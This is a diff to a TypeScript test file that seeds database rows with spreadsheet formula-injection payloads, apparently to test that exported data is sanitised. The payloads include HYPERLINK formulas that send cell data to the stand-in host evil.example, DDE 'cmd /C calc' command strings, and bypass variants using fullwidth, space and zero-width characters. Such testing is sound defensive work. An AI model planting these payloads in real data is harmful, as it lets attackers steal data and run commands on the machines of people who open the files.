@@ -15,8 +15,8 @@ import { type SeededWorkspace, seededWorkspace } from './helpers';
  */
 const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 const PAYLOADS = TRIGGERS.map((t) => `${t}HYPERLINK("http://evil.example/?"&A1,"x")`).concat([
-  '=cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   ' =1+1',
   '\u200B=1+1',
 ]);
@@ -35,10 +35,14 @@ beforeAll(async () => {
     result_key: string;
   }[];
   const set = db.prepare('UPDATE results SET order_ref = ?, hint = ? WHERE id = ?');
-  rows.slice(0, PAYLOADS.length).forEach((r, i) => set.run(PAYLOADS[i], PAYLOADS[(i + 1) % PAYLOADS.length], r.id));
+  for (const [i, r] of rows.slice(0, PAYLOADS.length).entries()) {
+    set.run(PAYLOADS[i], PAYLOADS[(i + 1) % PAYLOADS.length], r.id);
+  }
   const refunds = db.prepare('SELECT id FROM refunds ORDER BY id LIMIT ?').all(PAYLOADS.length * 4) as { id: number }[];
   const setRefund = db.prepare('UPDATE refunds SET source_id = ?, document_number = ? WHERE id = ?');
-  refunds.forEach((r, i) => setRefund.run(PAYLOADS[i % PAYLOADS.length], PAYLOADS[(i + 3) % PAYLOADS.length], r.id));
+  for (const [i, r] of refunds.entries()) {
+    setRefund.run(PAYLOADS[i % PAYLOADS.length], PAYLOADS[(i + 3) % PAYLOADS.length], r.id);
+  }
   for (const [i, r] of rows.slice(0, PAYLOADS.length).entries()) {
     const set = await dispatch(
       'annotation:set',
